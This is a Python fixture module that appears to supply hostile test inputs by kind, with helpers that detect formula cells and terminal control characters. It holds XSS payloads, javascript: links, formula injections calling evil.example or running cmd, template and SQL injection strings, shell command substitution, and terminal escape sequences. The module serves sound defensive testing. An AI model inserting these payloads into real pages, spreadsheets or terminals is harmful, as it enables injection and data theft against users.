"""Texts that want to be more than text, by kind; whoever shows one must show it and do nothing else.

What they would do leaves a trace: markup sets `window.pwned`, makes an element of its own or asks `evil.example`; a
formula begins a cell; a sequence for terminals holds a control character.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

MARKUP = (
    "<script>window.pwned=1</script>",
    "<ScRiPt >window.pwned=1</sCrIpT >",
    "</script><script>window.pwned=1</script>",
    "</script ><script>window.pwned=1//",
    "<!--<script>window.pwned=1</script>-->",
    "<!--<script><script>window.pwned=1",
    "--><script>window.pwned=1</script><!--",
    "--!><img src=x onerror=window.pwned=1>",
    "]]><script>window.pwned=1</script><![CDATA[",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml version='1.0'?><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img/src=//evil.example/p.gif>",
    "<img srcset='//evil.example/q.gif 1x' onerror='window.pwned=1'>",
    "\"><img src=x onerror=window.pwned=1>",
    "' autofocus onfocus='window.pwned=1",
    "\" onmouseover=\"window.pwned=1",
    "`onload=`window.pwned=1",
    "<svg onload=window.pwned=1>",
    "<svg/onload=window.pwned=1><a xlink:href='javascript:window.pwned=1'>x</a></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe></foreignObject></svg>",
    "<math><mtext><mglyph><style></math><img src=x onerror=window.pwned=1>",
    "<math href='javascript:window.pwned=1'>click</math>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=window.pwned=1>'>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=//evil.example/a.ogg autoplay>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/b.gif)'>",
    "<title>pwned</title>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<textarea></textarea><script>window.pwned=1</script>",
    "<xss id=payload contenteditable>",
    "<p id=articles><a id=data><a id=data name=dates>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#x3C;img src=x onerror=window.pwned=1&#x3E;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.pwned=1",
    "＜script＞window.pwned=1＜/script＞",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "<a href=javascript:window.pwned=1>read on</a>",
)  # fmt: skip

LINKS = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//https://example.org/",
    " \tjavascript:window.pwned=1",
    "java\nscript:window.pwned=1",
    "java\tscript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "javascript&colon;window.pwned=1",
    "javascript://example.org/%0awindow.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "//evil.example/scheme-relative",
    "https://bank.example@evil.example/",
    "https://example.org\\@evil.example/",
    "https://example.org/\" onclick=\"window.pwned=1",
    "https://example.org/\u202egpj.exe",
    "https://example.org/\x1b]8;;https://evil.example\x07",
)  # fmt: skip

TEMPLATES = (
    "{{payload}} {{plotly}} {{application}}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "<%= window.pwned=1 %>",
    "#{window.pwned=1}",
    "%{customdata} %{fullData.name}<extra></extra>",
    "<b>bold</b><br><sup>2</sup><a href='https://evil.example/'>plotly</a>",
    "{0.__class__.__init__.__globals__} %(name)s %s %n",
    "__proto__",
    "constructor",
    "[bold red]rich[/] [link=https://evil.example]markup[/link]",
    "'; DROP TABLE articles; --",
    "$(touch pwned) `touch pwned`",
)

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"read on\")",
    "=IMPORTXML(\"https://evil.example/\",\"//a\")",
    "=WEBSERVICE(\"https://evil.example/\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "+86 10 1234",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "\"\"=1+1",
    "x\",=1+1,\"",
    "x;=1+1;",
    "x\t=1+1\t",
    "x\n=1+1\n",
    "x\r=1+1\r",
)  # fmt: skip

CONTROLS = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2Koverwritten",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x1b]0;pwned\x07",
    "\x1b]2;pwned\x1b\\",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bP$q\"p\x1b\\",
    "\x1b_Gf=100;AAAA\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bc",
    "\x1b#8",
    "\x1b",
    "\x9b31mred\x9b0m",
    "\x9d0;pwned\x9c",
    "\x90q\x9c",
    "\x84\x85\x88\x8d",
    "\x07\x07bell",
    "safe\x08\x08\x08\x08pwned",
    "failed: nothing\radded 1, skipped 0, failed 0",
    "\x0e\x0f shift",
    "\x7f\x7f",
    "nul\x00nul",
    "form\x0cfeed\x0bvertical",
)  # fmt: skip

BIDI = (
    "\u202etxt.exe",
    "\u202dleft\u202c",
    "\u202b\u202aembedded\u202c\u202c",
    "\u2066isolated\u2069",
    "\u2067\u2068never closed",
    "\u200e\u200f\u061cmarks",
    "if access \u202e\u2066// check\u2069 \u2066begin",
)

UNICODE = (
    "\ufeffbom",
    "zero\u200bwidth\u200c\u200d\u2060joiners",
    "tags\U000e0041\U000e0042\U000e007f",
    "\ud800 lone \udfff surrogates",
    "\u2028window.pwned=1\u2029",
    "annotation\ufff9a\ufffab\ufffb",
    "not\ufdd0a\ufffecharacter\uffff",
    "soft\u00adhyphen",
    "private\ue000\U0010fffd",
    "Z" + "\u0315\u0300" * 10_000,
    "A" * 20_000,
    "泡" * 20_000,
)

STRUCTURE = (
    '"',
    '""",""\n"',
    "a,b,c\r\nd,e,f",
    "\\",
    "\\\"",
    "'",
    "NA",
    "null",
    "nan",
    "1e999",
    "0x1f",
    "2024-01-01",
    "true",
    "#comment",
    "",
    " ",
)  # fmt: skip
"""Not hostile: texts that a table may take for something else."""

BY_KIND = {
    "markup": MARKUP,
    "links": LINKS,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "controls": CONTROLS,
    "bidi": BIDI,
    "unicode": UNICODE,
    "structure": STRUCTURE,
}

ALL = tuple(payload for payloads in BY_KIND.values() for payload in payloads)

_ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
_FORMULA = re.compile(r"[\s\"\u200b-\u200d\u2060\ufeff]*[=+\-@＝＋－＠]|\t")
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


def active_in(shown: str) -> list[str]:
    """The stretches of a text that act on a terminal, or turn around what follows; a tab and a line feed do not."""
    return [shown[max(0, found.start() - 20) : found.end() + 20] for found in _ACTIVE.finditer(shown)]


def formulas_in(path: Path) -> list[str]:
    """The cells of a CSV that begin a formula, whatever ends a cell for the spreadsheet that reads it."""
    csv.field_size_limit(1 << 24)
    found = []
    for delimiter in ",;\t":
        with path.open(newline="", encoding="utf-8") as file:
            cells = (cell for row in csv.reader(file, delimiter=delimiter) for cell in row)
            found += [cell for cell in cells if _FORMULA.match(cell) and not _NUMBER.match(cell)]
    return found


def file_name(payload: str, suffix: str) -> str:
    """A payload as the name of a file, as far as a file system takes it."""
    return (
        payload.replace("/", "|").replace("\0", "0").encode("utf-8", "replace")[:200].decode("utf-8", "ignore") + suffix
    )
